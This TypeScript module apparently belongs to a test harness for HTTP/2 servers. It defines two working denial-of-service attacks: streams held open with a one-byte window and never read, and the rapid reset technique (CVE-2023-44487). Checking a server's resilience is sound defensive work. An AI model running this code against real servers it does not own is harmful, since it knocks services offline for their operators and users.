import { constants } from 'node:http2';
import { type Attack, dialHttp2, LARGE_ANSWER, lanes, pause, until } from '../support/target.ts';

/** Requests a hundred large responses with a window of one byte, and never reads them. */
export const unreadStreams: Attack = async (target) => {
  await lanes(114, 1_000, async () => {
    const session = await dialHttp2(target, { initialWindowSize: 1 });
    for (let i = 0; i < 100 && !session.closed; i++) ignore(session.request({ ':path': LARGE_ANSWER }));
    await until(session, 'close', 10_000);
  });
};

/** Cancels requests as soon as they are sent (CVE-2023-44487). */
export const rapidResets: Attack = async (target) => {
  await lanes(1, 300, async () => {
    const session = await dialHttp2(target);
    for (let round = 0; round < 20 && !session.closed && !session.destroyed; round++) {
      const streams = Array.from({ length: 50 }, () => ignore(session.request({ ':path': LARGE_ANSWER })));
      // Requests that are canceled in the same turn of the event loop are never sent.
      await pause(2);
      for (const stream of streams) stream.close(constants.NGHTTP2_CANCEL);
    }
    session.destroy();
  });
};

function ignore<S extends NodeJS.EventEmitter>(stream: S): S {
  stream.on('error', () => {});
  return stream;
}
